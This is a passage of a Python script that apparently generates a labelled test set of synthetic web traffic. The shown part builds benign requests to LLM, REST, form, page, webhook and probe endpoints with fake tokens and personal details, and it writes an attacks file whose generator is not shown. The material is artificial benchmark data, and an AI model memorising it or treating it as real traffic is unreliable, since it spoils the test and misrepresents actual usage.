    if roll < 0.9:
        frame = rng.choice(
            [
                "Summarize this email in one sentence:\n\n",
                "Write a polite reply to this:\n\n",
                "What's the tone of this message?\n\n",
            ]
        )
        return frame + rng.choice(EMAILS)
    if roll < 0.96:
        return f"Translate to {rng.choice(LANGS)}: {rng.choice(SENTENCES)}"
    return f"Here is my {rng.choice(['notes', 'draft', 'outline'])}:\n\n" + "\n".join(
        f"- {s}" for s in rng.sample(SENTENCES, 3)
    )


def answer(rng: random.Random) -> str:
    lang = rng.choice(list(SNIPPETS))
    return f"Sure! Here's one way to do it in {lang}:\n\n```{lang}\n{rng.choice(SNIPPETS[lang])}\n```\n\n" + rng.choice(
        ANSWER_TAILS
    )


def messages(rng: random.Random) -> list[dict[str, str]]:
    out = [{"role": "system", "content": rng.choice(SYSTEM_PROMPTS)}] if rng.random() < 0.6 else []
    for _ in range(rng.choice([0, 0, 0, 1, 1, 2])):
        out += [{"role": "user", "content": prompt(rng)}, {"role": "assistant", "content": answer(rng)}]
    out.append({"role": "user", "content": prompt(rng)})
    return out


def api_headers(rng: random.Random, ua: str | None = None) -> dict[str, str]:
    headers = {
        "user-agent": ua or rng.choice(CLIENTS[:22]),
        "accept": "application/json",
        "authorization": f"Bearer sk-{token(rng, 40)}",
    }
    if rng.random() < 0.3:
        headers["x-request-id"] = uuid(rng)
    return headers


def llm(rng: random.Random) -> dict[str, Any]:
    roll = rng.random()
    headers = api_headers(rng)
    if roll < 0.6:
        body: dict[str, Any] = {"model": rng.choice(MODELS), "messages": messages(rng)}
        options: list[tuple[str, list[Any]]] = [
            ("temperature", [0, 0.2, 0.7, 1.0]),
            ("max_tokens", [256, 512, 1024, 4096]),
            ("stream", [True, False]),
            ("user", [f"user_{token(rng, 8)}"]),
        ]
        for key, values in options:
            if rng.random() < 0.5:
                body[key] = rng.choice(values)
        query = rng.choice(["", "", "api-version=2024-02-01"])
        return request("llm-chat", "POST", "/v1/chat/completions", query, headers, json.dumps(body), "application/json")
    if roll < 0.72:
        body = {"model": "claude-3-5-sonnet-20240620", "max_tokens": 1024, "messages": messages(rng)[-1:]}
        if rng.random() < 0.5:
            body["system"] = rng.choice(SYSTEM_PROMPTS)
        return request("llm-chat", "POST", "/v1/messages", "", headers, json.dumps(body), "application/json")
    if roll < 0.84:
        body = {
            "model": rng.choice(["llama3.1:8b", "qwen2:7b", "mistral"]),
            "prompt": prompt(rng),
            "stream": rng.random() < 0.5,
        }
        return request("llm-chat", "POST", "/api/generate", "", headers, json.dumps(body), "application/json")
    if roll < 0.92:
        inputs = [rng.choice(PROMPTS + SENTENCES + SEARCHES) for _ in range(rng.choice([1, 3, 8]))]
        body = {"model": "text-embedding-3-small", "input": inputs if len(inputs) > 1 else inputs[0]}
        return request("llm-embed", "POST", "/v1/embeddings", "", headers, json.dumps(body), "application/json")
    body = {
        "model": rng.choice(MODELS),
        "input": prompt(rng),
        "tools": [
            {
                "type": "function",
                "function": {
                    "name": "run_sql",
                    "description": "Run a read-only SQL query against the analytics warehouse",
                    "parameters": {
                        "type": "object",
                        "properties": {"query": {"type": "string"}},
                        "required": ["query"],
                    },
                },
            }
        ],
    }
    return request("llm-chat", "POST", "/v1/responses", "", headers, json.dumps(body), "application/json")


def tool_call(rng: random.Random) -> dict[str, Any]:
    """An agent framework posting a tool result back (the tool's output is code, SQL, file listings…)."""
    outputs = [
        "total 24\ndrwxr-xr-x  5 app app 4096 Jun 11 08:30 .\n-rw-r--r--  1 app app  512 Jun 11 08:29 README.md\n"
        "-rw-r--r--  1 app app 2048 Jun 11 08:29 main.py",
        json.dumps([{"id": 1, "name": "O'Brien", "orders": 12}, {"id": 2, "name": "Nguyen", "orders": 7}]),
        "query: SELECT region, SUM(amount) FROM sales GROUP BY region\nrows: 4\nEMEA | 1203944.50\nAMER | 2039111.00",
        'HTTP/1.1 200 OK\nContent-Type: application/json\n\n{"status": "ok"}',
        "def add(a, b):\n    return a + b\n\n# tests passed: 12/12",
        "Search results:\n1. How to use <details> in HTML - MDN\n2. Bash scripting cheatsheet - devhints.io",
    ]
    body = {
        "thread_id": f"thread_{token(rng, 24)}",
        "tool_call_id": f"call_{token(rng, 24)}",
        "output": rng.choice(outputs),
        "arguments": json.dumps(
            {"path": rng.choice(["src/main.py", "./README.md", "docs/guide.md", "tests/test_api.py"])}
        ),
    }
    return request(
        "llm-tools",
        "POST",
        "/v1/threads/runs/submit_tool_outputs",
        "",
        api_headers(rng),
        json.dumps(body),
        "application/json",
    )


def rest(rng: random.Random) -> dict[str, Any]:
    roll = rng.random()
    headers = api_headers(rng)
    if roll < 0.3:
        endpoints: list[tuple[str, dict[str, Any]]] = [
            (
                "/api/v1/users",
                {"page": rng.randint(1, 40), "limit": rng.choice([20, 50, 100]), "sort": "-created_at"},
            ),
            (
                "/api/v1/orders",
                {
                    "status": rng.choice(["open", "shipped", "cancelled"]),
                    "since": "2024-05-01T00:00:00Z",
                    "include": "items,customer",
                },
            ),
            (
                "/api/v2/products",
                {"q": rng.choice(PRODUCTS), "category": "home & garden", "min_price": 10, "max_price": 250},
            ),
            ("/api/v1/events", {"filter[type]": "signup", "filter[country]": "DE", "fields[user]": "id,email"}),
            (
                "/api/v1/reports/usage",
                {"from": "2024-06-01", "to": "2024-06-30", "granularity": "1d", "tz": "Europe/Berlin"},
            ),
            ("/api/v1/files", {"prefix": "uploads/2024/06/", "delimiter": "/", "max_keys": 100}),
            ("/api/v1/tags", {"name": rng.choice(TAGS)}),
            (
                "/api/v1/translations",
                {"key": "checkout.button.label", "locale": rng.choice(["en-US", "fr-FR", "pt_BR"])},
            ),
        ]
        path, params = rng.choice(endpoints)
        return request("rest", "GET", path, urlencode(params), headers)
    if roll < 0.45:
        ident = rng.choice([str(rng.randint(1, 10**6)), uuid(rng), f"ord_{token(rng, 14)}", f"cus_{token(rng, 14)}"])
        resource = rng.choice(["users", "orders", "products", "invoices", "customers", "projects"])
        return request("rest", rng.choice(["GET", "DELETE", "GET"]), f"/api/v1/{resource}/{ident}", "", headers)
    name, email = person(rng)
    city, state, country = rng.choice(CITIES)
    bodies = [
        {
            "customer": {"name": name, "email": email, "phone": f"+1-555-{rng.randint(1000, 9999)}"},
            "shipping": {"line1": rng.choice(STREETS), "city": city, "state": state, "country": country},
            "items": [
                {"sku": f"SKU-{rng.randint(1000, 9999)}", "name": rng.choice(PRODUCTS), "qty": rng.randint(1, 3)}
                for _ in range(rng.randint(1, 4))
            ],
            "notes": rng.choice(
                [
                    "",
                    "Please leave the package at the back door, thanks!",
                    "Gift wrap it :)",
                    "Ring twice; the bell's broken.",
                    "Call me at +44 20 7946 0958 if there's a problem",
                ]
            ),
        },
        {
            "display_name": name,
            "bio": rng.choice(
                [
                    "Backend dev. Coffee & Rust.",
                    "I <3 open source",
                    "PhD student @ ETH Zürich; working on compilers.",
                    "Views are my own. He/him.",
                    '"Ship it" - me, every Friday',
                ]
            ),
            "website": f"https://{name.split()[0].lower().replace(chr(39), '')}.dev",
            "timezone": "America/New_York",
        },
        {
            "title": rng.choice(
                [
                    "Fix login redirect loop",
                    "Add dark mode",
                    "Q3 roadmap",
                    'Bug: CSV export drops rows with quotes (")',
                    "Support for SELECT ... FOR UPDATE SKIP LOCKED",
                ]
            ),
            "description": rng.choice(PROMPTS),
            "labels": rng.sample(TAGS, 2),
            "assignee": email,
        },
        {
            "filename": rng.choice(FILENAMES),
            "content_type": "application/pdf",
            "size": rng.randint(1000, 10**7),
            "folder": rng.choice(["/Shared/Finance", "/Users/zoe/Documents", "Reports/2024", "C:\\Users\\me\\Desktop"]),
        },
        {
            "query": rng.choice(SEARCHES),
            "filters": {"date_range": ["2024-01-01", "2024-06-30"], "tags": ["a&b"]},
            "page": {"size": 25, "cursor": token(rng, 24)},
        },
        {
            "event": "page_view",
            "url": rng.choice(REFERERS),
            "referrer": rng.choice(REFERERS),
            "properties": {
                "title": "Pricing \u2013 Acme Cloud",
                "path": "/pricing",
                "search": "?plan=pro&billing=annual",
            },
            "anonymous_id": uuid(rng),
            "timestamp": "2024-06-11T08:30:00.123Z",
        },
        {"comment": rng.choice(PROMPTS + SENTENCES + EMAILS), "post_id": rng.randint(1, 5000)},
    ]
    method = rng.choice(["POST", "PUT", "PATCH"])
    path = rng.choice(
        [
            "/api/v1/orders",
            "/api/v1/users/me",
            "/api/v1/issues",
            "/api/v1/files",
            "/api/v1/search",
            "/api/v1/track",
            "/api/v1/comments",
        ]
    )
    return request("rest", method, path, "", headers, json.dumps(rng.choice(bodies)), "application/json")


def search(rng: random.Random) -> dict[str, Any]:
    params: dict[str, Any] = {"q": rng.choice(SEARCHES + PRODUCTS)}
    if rng.random() < 0.5:
        params["page"] = rng.randint(1, 5)
    if rng.random() < 0.3:
        params["sort"] = rng.choice(["relevance", "price_asc", "-date"])
    headers = {"user-agent": rng.choice(BROWSERS), "accept": "text/html"}
    if rng.random() < 0.5:
        headers["referer"] = rng.choice(REFERERS)
    query = urlencode(params) if rng.random() < 0.7 else "&".join(f"{k}={quote(str(v))}" for k, v in params.items())
    return request(
        "search", "GET", rng.choice(["/search", "/api/v1/search", "/shop/search", "/docs/search"]), query, headers
    )


def form(rng: random.Random) -> dict[str, Any]:
    name, email = person(rng)
    options: list[dict[str, Any]] = [
        {"email": email, "password": password(rng), "remember_me": "on"},
        {
            "name": name,
            "email": email,
            "password": password(rng),
            "company": rng.choice(["Acme Inc.", "O'Reilly Media", "Johnson & Johnson", ""]),
        },
        {
            "name": name,
            "email": email,
            "subject": "Question about pricing",
            "message": rng.choice(EMAILS + PROMPTS).replace("\n", "\r\n"),
        },
        {"comment": rng.choice(SENTENCES + PROMPTS), "author": name, "post": rng.randint(1, 999)},
        {"display_name": name, "language": "en-GB", "newsletter": "1", "timezone": "Europe/London"},
        {"q": rng.choice(SEARCHES), "category": "all"},
        {"card_holder": name.upper(), "address": rng.choice(STREETS), "zip": str(rng.randint(10000, 99999))},
    ]
    fields = rng.choice(options)
    fields["csrf_token"] = token(rng, 32)
    headers = {
        "user-agent": rng.choice(BROWSERS),
        "origin": "https://app.example.com",
        "referer": "https://app.example.com/settings",
    }
    path = rng.choice(["/login", "/signup", "/contact", "/comments", "/settings/profile", "/search", "/checkout"])
    return request("form", "POST", path, "", headers, urlencode(fields), "application/x-www-form-urlencoded")


def multipart(rng: random.Random) -> dict[str, Any]:
    boundary = f"----WebKitFormBoundary{token(rng, 16)}"
    csv_rows = "name,email,notes\r\n" + "\r\n".join(
        f'"{n}",{e},"{rng.choice(SENTENCES)}"' for n, e in (person(rng) for _ in range(4))
    )
    body = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="title"\r\n\r\n{rng.choice(FILENAMES)}\r\n'
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="contacts.csv"\r\n'
        f"Content-Type: text/csv\r\n\r\n{csv_rows}\r\n--{boundary}--\r\n"
    )
    return request(
        "form",
        "POST",
        "/api/v1/imports",
        "",
        {"user-agent": rng.choice(BROWSERS)},
        body,
        f"multipart/form-data; boundary={boundary}",
    )


def page(rng: random.Random) -> dict[str, Any]:
    roll = rng.random()
    cookie_parts = [
        f"_ga=GA1.2.{rng.randint(10**8, 10**9)}.{rng.randint(1_600_000_000, 1_720_000_000)}",
        f"session={jwt(rng)}",
        "cookie_consent=" + quote(json.dumps({"necessary": True, "analytics": rng.random() < 0.5})),
        f"theme={rng.choice(['dark', 'light'])}",
        f"lang={rng.choice(['en', 'fr', 'pt-BR'])}",
        f"cart={quote(json.dumps([{'sku': 'SKU-1001', 'qty': 2}]))}",
        f"recently_viewed={quote(','.join(rng.sample(PRODUCTS, 2)))}",
        f"ajs_anonymous_id=%22{uuid(rng)}%22",
        f"csrftoken={token(rng, 32)}",
    ]
    headers = {
        "user-agent": rng.choice(BROWSERS + BOTS),
        "accept": "text/html,application/xhtml+xml",
        "accept-language": "en-US,en;q=0.9",
    }
    if rng.random() < 0.7:
        headers["cookie"] = "; ".join(rng.sample(cookie_parts, rng.randint(1, 5)))
    if rng.random() < 0.5:
        headers["referer"] = rng.choice(REFERERS)
    if roll < 0.4:
        path = rng.choice(
            [
                "/",
                "/pricing",
                "/docs/getting-started",
                "/blog/2024/05/how-we-cut-p99-latency-by-40%",
                "/about",
                "/careers",
                "/docs/api/v1/chat-completions",
                "/changelog",
                "/status",
                "/users/zoë",
                "/docs/guides/sql-and-llms",
                "/legal/terms-of-service",
                "/en-us/",
                "/blog/what's-new-in-june",
                "/docs/reference/rate-limits#headers",
            ]
        )
        query = rng.choice(
            [
                "",
                "",
                "utm_source=newsletter&utm_medium=email&utm_campaign=june_launch",
                "ref=producthunt",
                "tab=billing",
                "lang=fr",
                "plan=pro&billing=annual",
                "fbclid=IwAR2" + token(rng, 40),
                "gclid=" + token(rng, 30),
            ]
        )
        return request("browser", "GET", path, query, headers)
    if roll < 0.8:
        path = rng.choice(
            [
                "/static/js/app.3f2a1c9b.js",
                "/static/css/main.8d1e.css",
                "/favicon.ico",
                "/images/hero@2x.png",
                "/fonts/Inter-Var.woff2",
                "/robots.txt",
                "/sitemap.xml",
                "/.well-known/openid-configuration",
                "/.well-known/security.txt",
                "/manifest.webmanifest",
                "/assets/icons/apple-touch-icon-180x180.png",
                "/static/media/logo.9c2b.svg",
                "/images/products/usb-c-hub_7-in-1.jpg",
                "/apple-app-site-association",
            ]
        )
        return request("browser", "GET", path, rng.choice(["", "", "v=1717171717"]), headers)
    path, query = rng.choice(
        [
            ("/oauth/callback", f"code={token(rng, 40)}&state={token(rng, 24)}"),
            ("/login", "next=%2Fdashboard%3Ftab%3Dusage"),
            ("/auth/verify", f"token={jwt(rng)}"),
            ("/unsubscribe", f"email={quote(person(rng)[1])}&list=product-updates"),
            ("/share", "url=" + quote("https://example.com/blog/a?b=c&d=e", safe="")),
            ("/redirect", "to=https%3A%2F%2Fdocs.example.com%2Fguides%2Fquickstart"),
        ]
    )
    return request("browser", "GET", path, query, headers)


def misc(rng: random.Random) -> dict[str, Any]:
    roll = rng.random()
    if roll < 0.3:
        query = rng.choice(
            [
                "query GetUser($id: ID!) { user(id: $id) { id name email "
                "orders(first: 10) { edges { node { id total } } } } }",
                "mutation AddComment($input: CommentInput!) { addComment(input: $input) { id body createdAt } }",
                '{ search(q: "o\'reilly", first: 5) { ... on Book { title author } } }',
            ]
        )
        body = {
            "query": query,
            "variables": {"id": uuid(rng), "input": {"body": rng.choice(SENTENCES)}},
            "operationName": None,
        }
        return request("graphql", "POST", "/graphql", "", api_headers(rng), json.dumps(body), "application/json")
    if roll < 0.55:
        event = rng.choice(
            [
                {
                    "id": f"evt_{token(rng, 24)}",
                    "type": "invoice.paid",
                    "data": {
                        "object": {
                            "customer": f"cus_{token(rng, 14)}",
                            "amount_paid": 4900,
                            "description": "Pro plan (monthly) \u2013 June 2024",
                            "customer_name": person(rng)[0],
                        }
                    },
                },
                {
                    "action": "opened",
                    "pull_request": {
                        "title": "Fix: escape ' in CSV export",
                        "body": rng.choice(PROMPTS) + "\n\n```sql\n" + rng.choice(SNIPPETS["sql"]) + "\n```",
                        "user": {"login": "zoe-dev"},
                    },
                },
                {
                    "ref": "refs/heads/main",
                    "head_commit": {
                        "message": "Merge pull request #214 from acme/fix-login\n\n"
                        "Fix login redirect loop (closes #213)"
                    },
                },
                {
                    "type": "event_callback",
                    "event": {
                        "type": "message",
                        "text": rng.choice(EMAILS),
                        "user": "U024BE7LH",
                        "channel": "C024BE91L",
                    },
                },
            ]
        )
        agent = rng.choice(
            [
                "Stripe/1.0 (+https://stripe.com/docs/webhooks)",
                "GitHub-Hookshot/6c0b1d2",
                "Slackbot 1.0 (+https://api.slack.com/robots)",
            ]
        )
        return request(
            "webhook",
            "POST",
            "/webhooks/" + rng.choice(["stripe", "github", "slack"]),
            "",
            {"user-agent": agent, "x-signature": token(rng, 64, "0123456789abcdef")},
            json.dumps(event),
            "application/json",
        )
    if roll < 0.75:
        agent = rng.choice(
            [
                "kube-probe/1.29",
                "Prometheus/2.51.2",
                "ELB-HealthChecker/2.0",
                "Datadog Agent/7.52.1",
                "Blackbox Exporter/0.25.0",
                "GoogleHC/1.0",
                "Uptime-Kuma/1.23.11",
            ]
        )
        path = rng.choice(["/healthz", "/readyz", "/metrics", "/health", "/api/health", "/livez"])
        return request("probe", "GET", path, rng.choice(["", "", "verbose=1"]), {"user-agent": agent})
    if roll < 0.88:
        body = {"text": rng.choice(PROMPTS + EMAILS), "source_lang": "auto", "target_lang": rng.choice(LANGS)}
        return request(
            "rest", "POST", "/api/v1/translate", "", api_headers(rng), json.dumps(body), "text/plain;charset=UTF-8"
        )
    lines = "\n".join(
        json.dumps({"level": rng.choice(["info", "warn", "error"]), "msg": rng.choice(ERRORS + SENTENCES)})
        for _ in range(3)
    )
    return request("logs", "POST", "/api/v1/logs", "", api_headers(rng), lines, "application/x-ndjson")


BENIGN_MIX = [
    (llm, 0.36),
    (tool_call, 0.04),
    (rest, 0.2),
    (search, 0.1),
    (form, 0.07),
    (multipart, 0.02),
    (page, 0.13),
    (misc, 0.08),
]


def benign(rng: random.Random, count: int) -> list[dict[str, Any]]:
    makers, weights = zip(*BENIGN_MIX, strict=True)
    return [rng.choices(makers, weights)[0](rng) for _ in range(count)]


def write(name: str, rows: list[dict[str, Any]]) -> None:
    with (HERE / name).open("w", encoding="utf-8") as f:
        for row in rows:
            f.write(json.dumps(row, ensure_ascii=False) + "\n")


def main() -> None:
    write("attacks.jsonl", attacks(random.Random(SEED)))
    write("benign.jsonl", benign(random.Random(SEED + 1), 1600))


if __name__ == "__main__":
    main()
